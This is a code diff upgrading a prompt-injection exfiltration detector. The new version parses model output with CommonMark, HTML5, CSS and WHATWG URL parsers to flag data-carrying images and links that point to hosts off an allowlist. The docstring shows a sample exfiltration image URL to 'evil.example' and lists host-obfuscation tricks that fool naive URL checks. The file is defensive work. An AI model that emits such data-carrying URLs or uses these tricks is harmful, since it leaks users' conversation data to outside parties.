@@ -1,27 +1,52 @@
-"""Data leaving through links and images in model output.
+"""Data leaving through links and images in model output, found as the renderer finds them.
 
-A prompt-injected model can leak conversation data by writing a markdown image whose URL carries
-it (`![](https://evil.example/p?q=<data>)`): the chat client fetches the image automatically, so
-no click is needed. Links need a click but still carry data. This detector finds markdown images
-and links (inline and reference-style) and raw HTML `<img>`/`<a>` whose host is not on the
-bundle's allowlist (`setup.allowed_hosts`, `*.example.com` allows subdomains).
+A prompt-injected model can leak conversation data by writing an image whose URL carries it
+(`![](https://evil.example/p?q=<data>)`): the chat client fetches the image as it renders, so no
+click is needed. Links need a click but still carry data.
 
-Scores: an image to a host off the allowlist is high risk on its own (0.7) and higher when its
-URL carries data (0.95); a link carrying data scores 0.7, a plain link 0.2. Code blocks and
-inline code are skipped: clients do not render markdown inside them. `detail` names the host and
-why the URL looks like it carries data, never the data itself.
+The detector reads the output the way a Markdown renderer with HTML enabled does, with parsers
+made for each layer, never with patterns that approximate them:
+
+- Markdown: the CommonMark reference implementation (cmark-gfm, GitHub's, through cmarkgfm),
+  raw HTML kept: inline and reference-style images and links, angle-bracket destinations, titles,
+  nested brackets and multi-line alt text resolve as the renderer resolves them; code spans and
+  blocks render nothing and fetch nothing. (A pure-Python parser cost 30 times as much.)
+- HTML, inline or in blocks: an HTML5 parser (lexbor, through selectolax), entities decoded as a
+  browser decodes them; every element and attribute that makes a browser fetch on its own
+  (`img`, `source`, `video`, `object`, `embed`, `iframe`, SVG `image`, `link`, `meta` refresh,
+  `background`, `srcset`, ...) or on a click (`a`, `area`, `form`); and CSS (style attributes and
+  `<style>` blocks, through tinycss2): `url()`, `image-set()` and `@import`.
+- URLs: the WHATWG URL standard (ada-url), which browsers implement: `http:evil.example`,
+  backslashes, percent-encoded or fullwidth hosts and protocol-relative URLs name the host the
+  browser will contact. A `<base href>` off the allowlist redirects every relative URL after it,
+  so it is reported as an image would be.
+
+Hosts are judged against the bundle's allowlist (`setup.allowed_hosts`, `*.example.com` allows
+subdomains). Scores: what is fetched without a click is high risk on its own (0.7) and higher when
+its URL carries data (0.95); a link carrying data scores 0.7, a plain link 0.2. Bare URLs in prose
+are text (no fetch, no link). A finding's span is the Markdown block it stands in (the renderer
+keeps source positions per block; a raw HTML block has none, so its span is the whole text), so
+a redaction or a stream's release never cuts inside it. `detail` names
+the host and why the URL looks like it carries data, never the data itself.
 """
 
 from __future__ import annotations
 
+import functools
 import re
-from typing import ClassVar
-from urllib.parse import parse_qsl, unquote, urlsplit
+from collections.abc import Iterator, Mapping
+from dataclasses import dataclass
+from typing import Any, ClassVar
+from urllib.parse import parse_qsl, unquote
 
+import ada_url
+import cmarkgfm
+import tinycss2
+from cmarkgfm.cmark import Options
 from pydantic import BaseModel
+from selectolax.lexbor import LexborHTMLParser
 
 from vallum.detectors.base import Detector, DetectorSetup
-from vallum.detectors.markup import Ref, html_refs, image_labels, markdown_refs
 from vallum.model import Finding, Stage
 
 IMAGE_SCORE = 0.7
@@ -30,10 +55,53 @@ LINK_SCORE = 0.2
 LINK_WITH_DATA_SCORE = 0.7
 DATA_VALUE_MIN = 12
 DATA_PATH_SEGMENT_MIN = 24
-
-_FENCE = re.compile(r"```.*?(?:```|\Z)|~~~.*?(?:~~~|\Z)|`[^`\n]+`", re.S)
-_MD_REF_DEF = re.compile(r"^[ \t]{0,3}\[([^\]\n]+)\]:[ \t]*<?(\S+?)>?(?:[ \t]+.*)?$", re.M)
+# Relative URLs are resolved against these pages: they stay on the page's own origin (so they
+# fetch nothing elsewhere) and are recognised by it.
+_PAGES = ("https://page.invalid/", "http://page.invalid/")
+_PARTS = ("protocol", "hostname", "pathname", "search", "hash")
+REMOTE_CACHE = 4096  # URLs remembered per detector
+_REMOTE_SCHEMES = frozenset({"http:", "https:", "ftp:", "ws:", "wss:"})
 _ENCODED = re.compile(r"[A-Za-z0-9+/_-]{20,}={0,2}|(?:%[0-9A-Fa-f]{2}){4,}|[0-9a-fA-F]{24,}")
+# The attributes a browser fetches from without a click, by element; `*` for any element.
+_FETCHED = {
+    "img": ("src", "srcset", "lowsrc", "longdesc"),
+    "image": ("href", "xlink:href", "src"),
+    "source": ("src", "srcset"),
+    "video": ("src", "poster"),
+    "audio": ("src",),
+    "track": ("src",),
+    "iframe": ("src",),
+    "frame": ("src",),
+    "embed": ("src",),
+    "object": ("data", "codebase"),
+    "input": ("src",),
+    "script": ("src",),
+    "link": ("href", "imagesrcset"),
+    "use": ("href", "xlink:href"),
+    "feimage": ("href", "xlink:href"),
+    "base": ("href",),
+    "*": ("background",),
+}
+_CLICKED = {"a": ("href", "ping"), "area": ("href", "ping"), "form": ("action",)}
+_REFRESH_URL = re.compile(r"url\s*=\s*['\"]?([^'\"]+)", re.I)
+_NEWLINE = re.compile("\n")
+_SOURCEPOS = re.compile(r"(\d+):\d+-(\d+):\d+")
+# Raw HTML kept (a renderer with HTML on), and source positions for each block's span.
+_CMARK_OPTIONS = Options.CMARK_OPT_UNSAFE | Options.CMARK_OPT_SOURCEPOS
+
+
+@dataclass(frozen=True, slots=True)
+class _Remote:
+    host: str
+    data_reason: str | None
+
+
+@dataclass(frozen=True, slots=True)
+class _Ref:
+    url: str
+    start: int
+    end: int
+    fetched: bool  # fetched without a click (an image, a stylesheet, a frame, ...)
 
 
 def host_allowed(host: str, allowed: tuple[str, ...]) -> bool:
@@ -49,89 +117,181 @@ def host_allowed(host: str, allowed: tuple[str, ...]) -> bool:
     return False
 
 
-def data_reason(url: str) -> str | None:
-    """Why a URL looks like it carries data (None if it does not). Never includes the data."""
-    parts = urlsplit(url)
-    for _, value in parse_qsl(parts.query, keep_blank_values=True):
+def data_reason(url: Mapping[str, Any]) -> str | None:
+    """Why a URL (its WHATWG parts) looks like it carries data (None if it does not). Never
+    includes the data."""
+    query = str(url["search"]).removeprefix("?")
+    for _, value in parse_qsl(query, keep_blank_values=True):
         if len(value) >= DATA_VALUE_MIN or _ENCODED.search(value):
             return f"query value of {len(value)} chars"
-    if parts.query and len(parts.query) >= DATA_VALUE_MIN and "=" not in parts.query:
-        return f"query of {len(parts.query)} chars"
-    for segment in parts.path.split("/"):
+    if query and len(query) >= DATA_VALUE_MIN and "=" not in query:
+        return f"query of {len(query)} chars"
+    for segment in str(url["pathname"]).split("/"):
         decoded = unquote(segment)
         if len(segment) >= DATA_PATH_SEGMENT_MIN or _ENCODED.fullmatch(segment):
             return f"path segment of {len(decoded)} chars"
         if " " in decoded and len(decoded) >= DATA_VALUE_MIN:
             return "path segment with encoded text"
-    if len(parts.fragment) >= DATA_PATH_SEGMENT_MIN:
-        return f"fragment of {len(parts.fragment)} chars"
+    fragment = str(url["hash"]).removeprefix("#")
+    if len(fragment) >= DATA_PATH_SEGMENT_MIN:
+        return f"fragment of {len(fragment)} chars"
     return None
 
 
 class ExfiltrationDetector(Detector):
-    """Finds markdown/HTML images and links that send data to hosts off the allowlist."""
+    """Finds images, frames, stylesheets and links that send data to hosts off the allowlist."""
 
     id: ClassVar[str] = "exfiltration"
-    version: ClassVar[str] = "1"
+    version: ClassVar[str] = "2"
     stages: ClassVar[frozenset[Stage]] = frozenset({Stage.OUTPUT, Stage.TOOL_CALL})
     description: ClassVar[str] = (
-        "Markdown or HTML images and links whose URL sends data to a host off the allowlist"
+        "Markdown, HTML and CSS references (as a renderer parses them) that send data to a host "
+        "off the allowlist"
     )
 
     def __init__(self, options: BaseModel | None = None, setup: DetectorSetup | None = None):
         super().__init__(options, setup)
         self._allowed = tuple(self.setup.allowed_hosts)
+        # Where a URL leads depends on nothing but the URL and the allowlist: a stream's windows
+        # and a conversation's answers repeat the same URLs, so each is parsed once.
+        self._remote = functools.lru_cache(maxsize=REMOTE_CACHE)(self._where)
 
     def detect(self, text: str, stage: Stage) -> list[Finding]:
         if "](" not in text and "]:" not in text and "][" not in text and "<" not in text:
-            return []
-        masked = _FENCE.sub(lambda m: " " * len(m.group()), text) if "`" in text else text
-        findings = []
-        for ref in self._references(masked):
-            finding = self._check(ref)
-            if finding is not None:
-                findings.append(finding)
+            return []  # no inline link or image, no reference, no tag: nothing a renderer fetches
+        findings = [
+            finding for ref in self._references(text) if (finding := self._check(ref)) is not None
+        ]
         findings.sort(key=lambda f: (f.start, f.end))
         return findings
 
-    def _references(self, text: str) -> list[Ref]:
-        # Linear in the text whatever it holds (see `markup`): a megabyte of unclosed
-        # brackets must not cost minutes.
-        refs = markdown_refs(text) if "](" in text else []
-        refs += html_refs(text)
-        if "]:" in text:
-            definitions = {m.group(1).lower(): m for m in _MD_REF_DEF.finditer(text)}
-            used_as_image = image_labels(text)
-            for label, m in definitions.items():
-                refs.append(Ref(m.group(2), m.start(), m.end(), label in used_as_image))
-        return refs
+    def _references(self, text: str) -> Iterator[_Ref]:
+        """The text rendered to HTML as a Markdown renderer with HTML on would, then read as a
+        browser reads that HTML, in document order (so an SVG `<image>` inside raw `<svg>` is
+        SVG's, a Markdown image is the `<img>` it becomes, and a `<base href>` applies to what
+        follows it)."""
+        html = cmarkgfm.markdown_to_html(text, options=_CMARK_OPTIONS)
+        base: str | None = None
+        lines: list[int] = []  # where each line starts: worked out once, when first needed
+        for node, url, fetched, is_base in _html_references(html):
+            if is_base:
+                base = url
+            url = _resolve_base(url, base, is_base)
+            if self._remote(url.strip()) is None:
+                continue
+            lines = lines or _line_starts(text)
+            yield _Ref(url, *_span(node, lines, len(text)), fetched)
 
-    def _check(self, ref: Ref) -> Finding | None:
-        url = ref.url.strip()
-        if url.startswith("//"):
-            url = "https:" + url
-        parts = urlsplit(url)
-        if parts.scheme.lower() not in ("http", "https", "ftp", "ws", "wss") or not parts.hostname:
-            return None  # relative, data:, mailto: and the like fetch nothing remote
-        host = parts.hostname
-        if host_allowed(host, self._allowed):
-            return None
-        reason = data_reason(url)
-        kind = "markdown_image" if ref.image else "link"
-        if ref.image:
+    def _where(self, raw: str) -> _Remote | None:
+        """Where a browser fetches `raw` from, when that is a host off the allowlist: on an
+        https page or an http one (`https:host` is relative on the first, remote on the other)."""
+        for page in _PAGES:
+            try:
+                href = ada_url.join_url(page, raw)
+                parts = ada_url.parse_url(href, attributes=_PARTS)
+            except ValueError:
+                return None  # no URL a browser would fetch
+            if href.startswith(page) or parts["protocol"] not in _REMOTE_SCHEMES:
+                continue  # on the page's own origin, or data:, mailto:, javascript: ...
+            host = str(parts["hostname"])
+            if host and not host_allowed(host, self._allowed):
+                return _Remote(host, data_reason(parts))
+        return None
+
+    def _check(self, ref: _Ref) -> Finding | None:
+        remote = self._remote(ref.url.strip())
+        if remote is None:
+            return None  # relative, data:, mailto:, allowlisted: nothing fetched elsewhere
+        host, reason = remote.host, remote.data_reason
+        if ref.fetched:
             score = IMAGE_WITH_DATA_SCORE if reason else IMAGE_SCORE
         else:
             score = LINK_WITH_DATA_SCORE if reason else LINK_SCORE
-        what = "image" if ref.image else "link"
+        what = "image" if ref.fetched else "link"
         detail = f"{what} to non-allowlisted host {host}"
         if reason:
             detail += f" carrying data ({reason})"
         return Finding(
             detector=self.id,
-            type=f"exfiltration.{kind}",
+            type="exfiltration.markdown_image" if ref.fetched else "exfiltration.link",
             score=score,
             start=ref.start,
             end=ref.end,
             labels=(),
             detail=detail,
         )
+
+
+def _line_starts(text: str) -> list[int]:
+    return [0, *(m.end() for m in _NEWLINE.finditer(text))]
+
+
+def _span(node: Any, lines: list[int], size: int) -> tuple[int, int]:
+    """The characters of the Markdown block `node` was rendered from (its nearest ancestor with
+    cmark's `data-sourcepos="L:C-L:C"`), or the whole text where there is none (raw HTML)."""
+    while node is not None:
+        found = _SOURCEPOS.fullmatch(str((node.attributes or {}).get("data-sourcepos") or ""))
+        if found:
+            first, last = int(found.group(1)) - 1, int(found.group(2))
+            if 0 <= first < len(lines):
+                return lines[first], lines[last] if last < len(lines) else size
+        node = node.parent
+    return 0, size
+
+
+def _html_references(html: str) -> Iterator[tuple[Any, str, bool, bool]]:
+    """(node, url, fetched without a click, is a `<base href>`) for every reference in HTML."""
+    tree = LexborHTMLParser(html)
+    for node in tree.root.traverse() if tree.root is not None else ():
+        tag = (node.tag or "").lower()
+        attributes: dict[str, Any] = node.attributes
+        for name in (*_FETCHED.get(tag, ()), *_FETCHED["*"]):
+            for url in _attribute_urls(name, attributes.get(name)):
+                yield node, url, True, tag == "base"
+        for name in _CLICKED.get(tag, ()):
+            for url in _attribute_urls(name, attributes.get(name)):
+                yield node, url, False, False
+        if tag == "meta" and str(attributes.get("http-equiv") or "").lower() == "refresh":
+            found = _REFRESH_URL.search(str(attributes.get("content") or ""))
+            if found:
+                yield node, found.group(1), True, False
+        if attributes.get("style"):
+            for url in _css_urls(tinycss2.parse_declaration_list(str(attributes["style"]))):
+                yield node, url, True, False
+        if tag == "style":
+            for url in _css_urls(tinycss2.parse_stylesheet(node.text() or "")):
+                yield node, url, True, False
+
+
+def _attribute_urls(name: str, value: Any) -> list[str]:
+    if not isinstance(value, str) or not value.strip():
+        return []
+    if name.endswith("srcset"):  # "url 1x, url 2x": each candidate is fetched by some browser
+        return [part.split()[0] for part in value.split(",") if part.split()]
+    return [value]
+
+
+def _css_urls(nodes: list[Any]) -> Iterator[str]:
+    """Every URL a stylesheet or declaration list would load: url(), image-set(), @import."""
+    for node in nodes:
+        kind = getattr(node, "type", "")
+        if kind == "url":
+            yield str(node.value)
+        elif kind == "function" and node.lower_name in ("url", "src", "image-set", "image"):
+            yield from (str(arg.value) for arg in node.arguments if arg.type == "string")
+        elif kind == "at-rule" and node.lower_at_keyword == "import":
+            yield from (str(part.value) for part in node.prelude if part.type == "string")
+        for children in ("value", "content", "prelude", "arguments"):
+            inner = getattr(node, children, None)
+            if isinstance(inner, list):
+                yield from _css_urls(inner)
+
+
+def _resolve_base(url: str, base: str | None, is_base: bool) -> str:
+    """A relative URL after a `<base href>` goes where the base says (the base itself as is)."""
+    if is_base or base is None:
+        return url
+    try:
+        return str(ada_url.join_url(ada_url.join_url(_PAGES[0], base), url))
+    except ValueError:
+        return url
